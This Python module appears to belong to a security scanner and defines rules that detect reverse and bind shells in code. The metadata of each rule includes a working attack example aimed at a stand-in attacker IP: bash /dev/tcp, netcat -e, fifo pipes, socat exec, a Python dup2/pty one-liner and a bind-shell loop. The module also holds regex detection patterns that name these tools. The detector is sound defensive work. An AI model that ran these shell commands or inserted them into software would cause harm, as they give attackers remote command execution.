"""Reverse and bind shells: a command interpreter wired to a network connection.

Two shapes cover nearly all of them. In Python, a socket is connected (or accepted) and a
shell is given the socket as its standard streams (`os.dup2`, `stdin=s.fileno()`, `pty.spawn`)
or is fed commands read from it. In command strings, the well-known one-liners: bash's
`/dev/tcp`, `nc -e`, a fifo piped through netcat, `socat exec:`, and interpreter one-liners
that do the Python dance in Perl, PHP, Ruby or PowerShell.
"""

from __future__ import annotations

import re
from collections.abc import Iterator

import tree_sitter

from ..context import CallSite, Context
from ..flow import NETWORK, assigned_value
from ..rule import CallRule, Hit, ScopeRule
from ..statements import mentions_warmer, module_mentions
from ._common import (
    Category,
    Confidence,
    RuleMeta,
    Severity,
    cache,
    call_name,
    describe,
    enclosing,
    line_of,
    memoized,
    related,
    related_at,
    words,
)
from .download import (
    NETWORK_PACKAGES,
    SHELL_CALLS,
    SHELL_METHODS,
    argv_items,
    command_match,
    command_text,
    excerpt,
    imports,
    is_process_call,
    is_socket_source,
    network_source,
    process_command,
    program_nodes,
    render,
    scope_calls,
)

# --------------------------------------------------------------------------------------
# Metadata
# --------------------------------------------------------------------------------------

_SHELL_WHY = (
    "A reverse shell connects out to an attacker's machine and gives it an interactive "
    "command interpreter with the privileges of this process; a bind shell waits for the "
    "attacker to connect in. Either way, whoever reaches the socket can run any command, "
    "read any file and pivot further into the network. "
)

SOCKET_DUP2_SHELL = RuleMeta(
    code="GH250",
    name="socket-dup2-shell",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="`{shell}` runs with stdin/stdout/stderr duplicated onto the socket from line {line}",
    why=_SHELL_WHY
    + "Connecting a socket, `os.dup2`-ing it onto file descriptors 0, 1 and 2 and then "
    "starting a shell is the textbook Python reverse shell; there is no legitimate reason "
    "for application code to do all three.",
    example=(
        "s = socket.socket()\n"
        "s.connect(('203.0.113.5', 4444))\n"
        "for fd in (0, 1, 2):\n"
        "    os.dup2(s.fileno(), fd)\n"
        "subprocess.call(['/bin/sh', '-i'])"
    ),
    fixed_example=(
        "# remote administration goes through SSH with authenticated users\n"
        "subprocess.run(['systemctl', 'restart', 'myapp'], check=True)"
    ),
)

PTY_SPAWN_OVER_SOCKET = RuleMeta(
    code="GH251",
    name="pty-spawn-over-socket",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="`pty.spawn()` starts a shell in a function that opens a socket on line {line}",
    why=_SHELL_WHY
    + "`pty.spawn('/bin/bash')` after a socket connect upgrades a raw connection to a full "
    "terminal (job control, su, ssh prompts): it is how reverse shells are made "
    "comfortable, not how applications run commands.",
    example=(
        "s = socket.create_connection((HOST, 443))\npty.spawn('/bin/bash', lambda fd: s.recv(1024))"
    ),
    fixed_example="subprocess.run(['/usr/local/bin/maintenance'], check=True)",
)

SUBPROCESS_SOCKET_STDIO = RuleMeta(
    code="GH252",
    name="subprocess-socket-stdio",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="the process's `{stream}` is the socket from line {line}",
    why=_SHELL_WHY
    + "Passing a socket (or its file descriptor) as a child process's stdin/stdout/stderr "
    "lets the remote end type into the program and read everything it prints; with a "
    "shell as the program it is a complete reverse shell in one call.",
    example=(
        "s = socket.create_connection(('203.0.113.5', 9001))\n"
        "subprocess.Popen(['/bin/bash', '-i'], stdin=s.fileno(), stdout=s.fileno(),\n"
        "                 stderr=s.fileno())"
    ),
    fixed_example=(
        "out = subprocess.run(['uptime'], capture_output=True, text=True).stdout\n"
        "s.sendall(out.encode())"
    ),
)

DEV_TCP_SHELL = RuleMeta(
    code="GH253",
    name="dev-tcp-shell",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="bash reverse shell over `/dev/tcp`: `{excerpt}`",
    why=_SHELL_WHY
    + "`bash -i >& /dev/tcp/HOST/PORT 0>&1` uses bash's built-in network redirections to "
    "attach an interactive shell to a TCP connection; it is the most common reverse shell "
    "one-liner there is.",
    example="os.system('bash -c \"bash -i >& /dev/tcp/203.0.113.5/4444 0>&1\"')",
    fixed_example="# port checks use socket.create_connection((host, port), timeout=2)",
)

NETCAT_EXEC_SHELL = RuleMeta(
    code="GH254",
    name="netcat-exec-shell",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="netcat executes a program for the remote end: `{excerpt}`",
    why=_SHELL_WHY
    + "`nc -e /bin/sh HOST PORT`, `ncat --sh-exec` and `nc -lvp PORT -e cmd.exe` hand a "
    "program's standard streams to whoever is on the other side of the connection.",
    example="subprocess.Popen(['nc', '-e', '/bin/sh', '203.0.113.5', '4444'])",
    fixed_example="subprocess.run(['nc', '-z', '-w', '2', host, str(port)])  # port check only",
)

NETCAT_PIPE_SHELL = RuleMeta(
    code="GH255",
    name="netcat-pipe-shell",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="a shell is piped through a network connection: `{excerpt}`",
    why=_SHELL_WHY + "`mkfifo /tmp/f; cat /tmp/f | sh -i 2>&1 | nc HOST PORT > /tmp/f` (and the "
    "`telnet | sh | telnet` variant) builds a reverse shell from netcats that lack `-e`: "
    "the fifo carries the network's bytes into the shell and its output back out.",
    example=(
        "os.system('rm -f /tmp/f; mkfifo /tmp/f; cat /tmp/f | /bin/sh -i 2>&1 "
        "| nc 203.0.113.5 4444 > /tmp/f')"
    ),
    fixed_example="os.mkfifo('/run/myapp/events')  # a fifo for local IPC only",
)

SOCAT_EXEC_SHELL = RuleMeta(
    code="GH256",
    name="socat-exec-shell",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="socat connects a shell to the network: `{excerpt}`",
    why=_SHELL_WHY
    + "`socat TCP:HOST:PORT EXEC:'bash -li',pty,stderr,setsid` is the fully interactive "
    "(TTY) variant of the reverse shell; socat's `EXEC:`/`SYSTEM:` addresses run a "
    "program on the connection.",
    example="os.system(\"socat tcp-connect:203.0.113.5:4444 exec:'bash -li',pty,stderr\")",
    fixed_example="subprocess.run(['socat', 'TCP-LISTEN:8080,fork', 'TCP:localhost:80'])",
)

SOCKET_COMMAND_SHELL = RuleMeta(
    code="GH257",
    name="socket-command-shell",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="`{sink}()` runs a command received by `{source}` on line {line}",
    why=_SHELL_WHY + "Reading a command from a socket and handing it to a shell (`subprocess`, "
    "`os.system`, `os.popen`), usually in a loop that sends the output back, is a reverse "
    "shell written by hand: the remote end decides every command.",
    example=(
        "while True:\n"
        "    cmd = s.recv(1024).decode()\n"
        "    s.send(subprocess.check_output(cmd, shell=True))"
    ),
    fixed_example=(
        "ALLOWED = {'status': ['systemctl', 'status', 'myapp']}\n"
        "request = s.recv(64).decode().strip()\n"
        "s.send(subprocess.check_output(ALLOWED[request]))"
    ),
)

BIND_SHELL = RuleMeta(
    code="GH258",
    name="bind-shell",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="`{sink}()` runs a command received by a listening socket (`{source}` on line {line})",
    why=_SHELL_WHY
    + "A server that accepts connections and runs what it receives as a shell command is a "
    "bind shell: anyone who can reach the port gets command execution, with no "
    "authentication beyond knowing the port.",
    example=(
        "srv.bind(('0.0.0.0', 31337)); srv.listen(1)\n"
        "conn, _ = srv.accept()\n"
        "while True:\n"
        "    conn.send(os.popen(conn.recv(1024).decode()).read().encode())"
    ),
    fixed_example=(
        "# expose specific, authenticated operations (an HTTP API with auth), never a shell"
    ),
)

SHELL_PIPE_BRIDGE = RuleMeta(
    code="GH259",
    name="shell-pipe-bridge",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.MEDIUM,
    cwe=(506, 78),
    message="data received by `{source}` on line {line} is written to a shell's stdin",
    why=_SHELL_WHY + "On Windows, where `dup2` is not an option, reverse shells start `cmd.exe` or "
    "PowerShell with pipes and run threads that copy socket data into the shell's stdin "
    "and its stdout back to the socket.",
    example=(
        "p = subprocess.Popen(['cmd.exe'], stdin=PIPE, stdout=PIPE, stderr=STDOUT)\n"
        "def s2p(s, p):\n"
        "    while True:\n"
        "        p.stdin.write(s.recv(1024)); p.stdin.flush()"
    ),
    fixed_example="p = subprocess.run(['ipconfig'], capture_output=True)",
)

SCRIPTED_REVERSE_SHELL = RuleMeta(
    code="GH260",
    name="scripted-reverse-shell",
    category=Category.REVERSE_SHELL,
    severity=Severity.ERROR,
    confidence=Confidence.HIGH,
    cwe=(506, 78),
    message="{language} one-liner opens a socket and hands it a shell",
    why=_SHELL_WHY
    + "The Python, Perl, PHP, Ruby and PowerShell reverse-shell one-liners (a socket plus "
    "dup2/exec of /bin/sh, `fsockopen` plus `exec`, `TCPClient` plus `iex`) are run "
    "through `python -c`, `perl -e`, `php -r` or `powershell -c` from a command string.",
    example=(
        "os.system(\"python3 -c 'import socket,os,pty;s=socket.socket();"
        's.connect((\\"203.0.113.5\\",4242));[os.dup2(s.fileno(),f) for f in (0,1,2)];'
        'pty.spawn(\\"/bin/sh\\")\'")'
    ),
    fixed_example="subprocess.run([sys.executable, '-m', 'myapp.healthcheck'], check=True)",
)

# --------------------------------------------------------------------------------------
# Sockets and shells in a scope
# --------------------------------------------------------------------------------------

_SOCKET_FACTORIES = words(
    """
    socket.create_connection socket.socket socket.fromfd socket.create_server ssl.wrap_socket
    """
)
_SOCKET_METHODS = frozenset({"accept", "wrap_socket"})
_SOCKET_HINT = re.compile(rb"\.connect(?:_ex)?\(|\.accept\(|create_connection|fromfd")
_SHELL_NAMES = re.compile(
    r"^(?:.*[/\\])?(?:(?:ba|da|z|k|c|tc|fi|a)?sh|cmd|powershell|pwsh)(?:\.exe)?$", re.IGNORECASE
)


def _assigned_name(ctx: Context, call: tree_sitter.Node) -> str | None:
    """`s` in `s = socket...(...)`, `conn` in `conn, addr = srv.accept()`."""
    parent = call.parent
    while parent is not None and parent.type == "await":
        parent = parent.parent
    if parent is None or parent.type != "assignment":
        return None
    left = parent.child_by_field_name("left")
    if left is not None and left.type in {"pattern_list", "tuple_pattern"}:
        left = left.named_children[0] if left.named_children else None
    return None if left is None or left.type != "identifier" else ctx.text(left)


def socket_names(ctx: Context, scope: tree_sitter.Node) -> dict[str, tree_sitter.Node]:
    """Variables of the scope that hold a connected or accepted socket, with the call that
    connected (or accepted) them."""
    return memoized(ctx, "sockets", scope, lambda: _scope_sockets(ctx, scope))


def _scope_sockets(ctx: Context, scope: tree_sitter.Node) -> dict[str, tree_sitter.Node]:
    found: dict[str, tree_sitter.Node] = {}
    created: set[str] = set()
    if not _SOCKET_HINT.search(ctx.source, scope.start_byte, scope.end_byte):
        return found
    for call in scope_calls(ctx, scope):
        name = call_name(ctx, call)
        site = ctx.call_site(call)
        target = _assigned_name(ctx, call)
        if name in _SOCKET_FACTORIES and target is not None:
            created.add(target)
            if name in {"socket.create_connection", "socket.fromfd"}:
                found.setdefault(target, call)
        elif site.method in _SOCKET_METHODS and target is not None:
            found.setdefault(target, call)
        elif site.method in {"connect", "connect_ex"} and site.receiver is not None:
            receiver = site.receiver
            address = site.arg(0)
            if receiver.type != "identifier" or address is None:
                continue
            label = ctx.text(receiver)
            if label in created or address.type == "tuple":
                found.setdefault(label, call)
    return found


def _socket_of(
    ctx: Context, node: tree_sitter.Node, sockets: dict[str, tree_sitter.Node]
) -> tree_sitter.Node | None:
    """The call that connected the socket behind `s`, `s.fileno()`, `s.makefile(...)`,
    `fd` (= s.fileno()) or `self.sock`."""
    if node.type == "call":
        receiver = ctx.call_site(node).receiver
        return None if receiver is None else _socket_of(ctx, receiver, sockets)
    if node.type == "identifier":
        label = ctx.text(node)
        if label in sockets:
            return sockets[label]
        bound = assigned_value(ctx, node)
        if bound is not None and bound.type == "call":
            return _socket_of(ctx, bound, sockets)
    if node.type == "attribute":
        return _attribute_socket(ctx, ctx.text(node))
    return None


def _attribute_socket(ctx: Context, spelling: str) -> tree_sitter.Node | None:
    """`self.sock`, connected in another method of the class: the connecting call."""
    memo = cache(ctx, "attribute_sockets")
    if spelling not in memo:
        name = re.escape(spelling.encode())
        match = re.search(
            name + rb"\.connect(?:_ex)?\(|" + name + rb"\s*(?:,\s*\w+\s*)?=\s*"
            rb"(?:socket\.create_connection|[\w.]+\.accept)\(",
            ctx.source,
        )
        at = None if match is None else ctx.node_at(match.start(), match.end())
        memo[spelling] = enclosing(at, {"call"})
    result: tree_sitter.Node | None = memo[spelling]
    return result


def shell_program(ctx: Context, site: CallSite) -> str | None:
    """The shell a process call starts (`/bin/sh`, `cmd.exe`), if its program is a shell."""
    if not is_process_call(site):
        return None
    items = argv_items(ctx, site)
    if items is not None:
        first = render(ctx, items[0])
    else:
        words = (command_text(ctx, site) or "").split()
        first = words[0] if words else None
    if first is None:
        return None
    first = first.strip("\"'")
    return first if _SHELL_NAMES.match(first) else None


def _std_fd(ctx: Context, node: tree_sitter.Node) -> bool:
    """0, 1, 2, a loop variable over them, or `sys.stdin.fileno()`."""
    if node.type == "integer":
        return ctx.text(node) in {"0", "1", "2"}
    if node.type == "identifier":
        return True
    return bool(re.search(r"std(?:in|out|err)", ctx.text(node)))


# --------------------------------------------------------------------------------------
# Checks
# --------------------------------------------------------------------------------------


def _dup2_shell(ctx: Context, scope: tree_sitter.Node) -> Iterator[Hit]:
    if not module_mentions(ctx, _SOCKET_HINT):
        return
    sockets = socket_names(ctx, scope)
    dups: list[tuple[tree_sitter.Node, tree_sitter.Node]] = []
    for call in scope_calls(ctx, scope):
        site = ctx.call_site(call)
        if site.name == "os.dup2" and len(site.args) >= 2 and _std_fd(ctx, site.args[1]):
            sock = _socket_of(ctx, site.args[0], sockets)
            if sock is not None:
                dups.append((call, sock))
    if not dups:
        return
    first_dup, connect = dups[0]
    for call in scope_calls(ctx, scope):
        if call.start_byte < first_dup.start_byte:
            continue
        site = ctx.call_site(call)
        shell = shell_program(ctx, site)
        if shell is None:
            continue
        yield Hit.at(
            call,
            related=(
                related_at(connect, "socket connected here"),
                related_at(first_dup, "standard streams duplicated"),
            ),
            shell=shell,
            line=str(line_of(ctx, connect)),
        )


def _pty_spawn(ctx: Context, site: CallSite) -> Iterator[Hit]:
    scope = ctx.scope_of(site.node)
    sockets = socket_names(ctx, scope)
    before = [c for c in sockets.values() if c.start_byte < site.node.start_byte]
    if not before or shell_program(ctx, site) is None:
        return
    if any(call_name(ctx, c) == "os.dup2" for c in scope_calls(ctx, scope)):
        return  # the dup2 rule reports the whole sequence
    connect = min(before, key=lambda c: c.start_byte)
    yield Hit.at(
        site.node,
        related=(related_at(connect, "socket opened here"),),
        line=str(line_of(ctx, connect)),
    )


_STREAMS = ("stdin", "stdout", "stderr")


def _socket_stdio(ctx: Context, site: CallSite) -> Iterator[Hit]:
    if not is_process_call(site):
        return
    if not module_mentions(ctx, _SOCKET_HINT) or not any(s in site.keywords for s in _STREAMS):
        return
    sockets = socket_names(ctx, ctx.scope_of(site.node))
    for stream in _STREAMS:
        value = site.keywords.get(stream)
        connect = None if value is None else _socket_of(ctx, value, sockets)
        if connect is not None:
            yield Hit.at(
                site.node,
                related=(related_at(connect, "socket opened here"),),
                stream=stream,
                line=str(line_of(ctx, connect)),
            )
            return


_LISTENING = re.compile(rb"\.listen\(|\.accept\(|socketserver|SocketServer|serve_forever")


#: asyncio streams (`asyncio.open_connection`) are raw sockets too
_SOCKET_PACKAGES = (*NETWORK_PACKAGES, "asyncio")


def _socket_command(ctx: Context, site: CallSite, bind: bool) -> Iterator[Hit]:
    if site.name not in SHELL_CALLS or not imports(ctx, _SOCKET_PACKAGES):
        return
    if module_mentions(ctx, _LISTENING) != bind:
        return
    for node in program_nodes(ctx, site):
        taint = ctx.taint(node)
        if taint is None or NETWORK not in taint.labels:
            continue
        source = network_source(ctx, node)
        if source is None or not is_socket_source(ctx, source):
            continue
        yield Hit.at(
            site.node,
            related=related(ctx, source, "command received here"),
            sink=site.name or "call",
            source=describe(ctx, source),
            line=str(line_of(ctx, source)),
        )
        return


def _reverse_command(ctx: Context, site: CallSite) -> Iterator[Hit]:
    yield from _socket_command(ctx, site, bind=False)


def _bind_command(ctx: Context, site: CallSite) -> Iterator[Hit]:
    yield from _socket_command(ctx, site, bind=True)


_SHELL_IN_MODULE = re.compile(
    rb"cmd\.exe|[\"']cmd[\"']|powershell|/bin/(?:ba|z|da)?sh\b|[\"'](?:ba|z)?sh[\"']"
)


def _pipe_bridge(ctx: Context, site: CallSite) -> Iterator[Hit]:
    receiver = site.receiver
    if (
        receiver is None
        or receiver.type != "attribute"
        or not ctx.text(receiver).endswith(".stdin")
    ):
        return
    data = site.arg(0)
    taint = None if data is None else ctx.taint(data)
    if data is None or taint is None or NETWORK not in taint.labels:
        return
    if not module_mentions(ctx, _SHELL_IN_MODULE):
        return
    source = network_source(ctx, data)
    if source is None or not is_socket_source(ctx, source):
        return
    yield Hit.at(
        site.node,
        related=related(ctx, source, "received here"),
        source=describe(ctx, source),
        line=str(line_of(ctx, source)),
    )


def _piped_shell(ctx: Context, node: tree_sitter.Node) -> bool:
    """`proc` in `proc.stdin`, bound to `Popen(["cmd.exe"], stdin=PIPE, ...)`."""
    if node.type != "identifier":
        return False
    bound = assigned_value(ctx, node)
    if bound is None or call_name(ctx, bound) != "subprocess.Popen":
        return False
    site = ctx.call_site(bound)
    items = argv_items(ctx, site)
    program = None if not items else render(ctx, items[0])
    return (
        program is not None
        and _SHELL_NAMES.match(program.strip()) is not None
        and "stdin" in site.keywords
    )


def _thread_bridge(ctx: Context, site: CallSite) -> Iterator[Hit]:
    """`Thread(target=pump, args=(sock, shell.stdin))`: a thread copies socket data into a
    piped shell, the Windows stand-in for `dup2`."""
    args = site.keywords.get("args")
    if args is None or args.type not in {"tuple", "list"}:
        return
    sockets = socket_names(ctx, ctx.scope_of(site.node))
    if not sockets:
        return
    connected = None
    shell_stdin = False
    for item in args.named_children:
        if item.type == "identifier" and ctx.text(item) in sockets:
            connected = sockets[ctx.text(item)]
        elif item.type == "attribute":
            stream = item.child_by_field_name("attribute")
            owner = item.child_by_field_name("object")
            if stream is not None and owner is not None and ctx.text(stream) == "stdin":
                shell_stdin = shell_stdin or _piped_shell(ctx, owner)
    if connected is not None and shell_stdin:
        yield Hit.at(
            site.node,
            related=related(ctx, connected, "socket connected here"),
            source=describe(ctx, connected),
            line=str(line_of(ctx, connected)),
        )


# command strings

_SHELL_WORD = r"(?:(?:/usr)?/bin/)?(?:ba|z|k|da)?sh"
_DEV_TCP = re.compile(r"/dev/(?:tcp|udp)/[^/\s]+/")
_DEV_TCP_SHELL = re.compile(
    r"(?:>&|&>)\s*/dev/(?:tcp|udp)/|\b0>&1|\b0<&1|\b[0-9]<&[0-9]|<&\s*[0-9]+\s*\|"
    r"|\b" + _SHELL_WORD + r"\s+-i\b|while\s+read\b|<>\s*/dev/(?:tcp|udp)/[^;]*;\s*" + _SHELL_WORD,
)
_NETCAT = r"\b(?:nc|ncat|netcat|nc\.traditional|nc\.openbsd)(?:\.exe)?\b"
_NETCAT_EXEC = re.compile(
    _NETCAT + r"[^|;&\n]*?\s(?:-[a-df-zA-Z]*e\s+\S|--(?:sh-|lua-)?exec[\s=]+\S"
    r"|-c\s+[\"']?(?:\S*/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?|powershell)\b)",
    re.IGNORECASE,
)
_FIFO = re.compile(r"\bmkfifo\b|\bmknod\s+\S+\s+p\b")
_PIPE_NET = re.compile(_NETCAT + r"|\btelnet\b|\bopenssl\s+s_client\b", re.IGNORECASE)
_PIPED_SHELL = re.compile(r"\|\s*" + _SHELL_WORD + r"\b|" + _SHELL_WORD + r"\s[^|;&\n]*\|")
_DOUBLE_PIPE = re.compile(
    r"(?:"
    + _NETCAT
    + r"|\btelnet\b)[^;&\n|]*\|\s*"
    + _SHELL_WORD
    + r"\b[^;&\n|]*\|\s*(?:"
    + _NETCAT
    + r"|\btelnet\b)",
    re.IGNORECASE,
)
_SOCAT = re.compile(
    r"\bsocat\b[^\n]*\b(?:exec|system):\s*[\"']?(?:\S*/)?(?:(?:ba|z|da|k)?sh|cmd(?:\.exe)?"
    r"|powershell|python\S*)\b",
    re.IGNORECASE,
)
_ONE_LINERS: tuple[tuple[str, tuple[re.Pattern[str], ...]], ...] = (
    (
        "Python",
        (
            re.compile(r"\bpython[0-9.]*\b.*-c"),
            re.compile(r"\bsocket\b"),
            re.compile(r"\bconnect\(|\baccept\("),
            re.compile(r"\bdup2\b|pty\.spawn|/bin/(?:ba|z)?sh|cmd\.exe"),
        ),
    ),
    (
        "Perl",
        (
            re.compile(r"\bperl\b.*\s-e"),
            re.compile(r"\bSocket\b|IO::Socket"),
            re.compile(r"\bexec\b|\bsystem\b"),
            re.compile(r"/bin/(?:ba|z)?sh|cmd\.exe"),
        ),
    ),
    (
        "PHP",
        (
            re.compile(r"\bfsockopen\b"),
            re.compile(r"\b(?:exec|shell_exec|system|passthru|proc_open|popen)\b"),
        ),
    ),
    (
        "Ruby",
        (
            re.compile(r"\bTCPSocket\b"),
            re.compile(r"\b(?:exec|spawn|popen|system)\b|%x"),
        ),
    ),
    (
        "PowerShell",
        (
            re.compile(r"Net\.Sockets\.TCPClient", re.IGNORECASE),
            re.compile(r"GetStream", re.IGNORECASE),
            re.compile(r"\biex\b|invoke-expression", re.IGNORECASE),
        ),
    ),
)


def _dev_tcp(ctx: Context, site: CallSite) -> Iterator[Hit]:
    found = command_match(ctx, site, _DEV_TCP)
    if found is not None and _DEV_TCP_SHELL.search(found[0]):
        command, match = found
        yield Hit.at(
            site.node, excerpt=excerpt(command, max(0, match.start() - 20), match.end() + 30)
        )


def _netcat_exec(ctx: Context, site: CallSite) -> Iterator[Hit]:
    found = command_match(ctx, site, _NETCAT_EXEC)
    if found is not None:
        command, match = found
        yield Hit.at(site.node, excerpt=excerpt(command, match.start(), match.end() + 30))


def _netcat_pipe(ctx: Context, site: CallSite) -> Iterator[Hit]:
    command = process_command(ctx, site)
    if command is None:
        return
    match = _DOUBLE_PIPE.search(command)
    if match is None and _PIPE_NET.search(command) and _PIPED_SHELL.search(command):
        match = _FIFO.search(command)
    if match is not None:
        yield Hit.at(site.node, excerpt=excerpt(command, match.start(), len(command)))


def _socat(ctx: Context, site: CallSite) -> Iterator[Hit]:
    found = command_match(ctx, site, _SOCAT)
    if found is not None:
        command, match = found
        yield Hit.at(site.node, excerpt=excerpt(command, match.start(), match.end()))


def _runs_own_python(ctx: Context, site: CallSite) -> bool:
    """`[sys.executable, "-c", ...]`: the running interpreter, spelled without `python`."""
    items = argv_items(ctx, site)
    if not items:
        return False
    first = items[0]
    if first.type == "identifier":
        bound = assigned_value(ctx, first)
        first = first if bound is None else bound
    return ctx.qualname(first) == "sys.executable"


def _one_liner(ctx: Context, site: CallSite) -> Iterator[Hit]:
    command = process_command(ctx, site)
    if command is None:
        return
    if _runs_own_python(ctx, site):
        command = "python " + command
    for language, patterns in _ONE_LINERS:
        if all(p.search(command) for p in patterns):
            yield Hit.at(site.node, language=language)
            return


RULES = [
    ScopeRule(SOCKET_DUP2_SHELL, re.compile(rb"dup2"), _dup2_shell),
    CallRule(PTY_SPAWN_OVER_SOCKET, _pty_spawn, names=frozenset({"pty.spawn"})),
    CallRule(SUBPROCESS_SOCKET_STDIO, _socket_stdio, names=SHELL_CALLS),
    CallRule(DEV_TCP_SHELL, _dev_tcp, names=SHELL_CALLS, methods=SHELL_METHODS),
    CallRule(NETCAT_EXEC_SHELL, _netcat_exec, names=SHELL_CALLS, methods=SHELL_METHODS),
    CallRule(NETCAT_PIPE_SHELL, _netcat_pipe, names=SHELL_CALLS, methods=SHELL_METHODS),
    CallRule(SOCAT_EXEC_SHELL, _socat, names=SHELL_CALLS, methods=SHELL_METHODS),
    CallRule(SOCKET_COMMAND_SHELL, _reverse_command, names=SHELL_CALLS),
    CallRule(BIND_SHELL, _bind_command, names=SHELL_CALLS),
    CallRule(SHELL_PIPE_BRIDGE, _pipe_bridge, methods=frozenset({"write"})),
    CallRule(SHELL_PIPE_BRIDGE, _thread_bridge, names=frozenset({"threading.Thread"})),
    CallRule(SCRIPTED_REVERSE_SHELL, _one_liner, names=SHELL_CALLS, methods=SHELL_METHODS),
]


mentions_warmer(_SOCKET_HINT, _LISTENING, _SHELL_IN_MODULE)
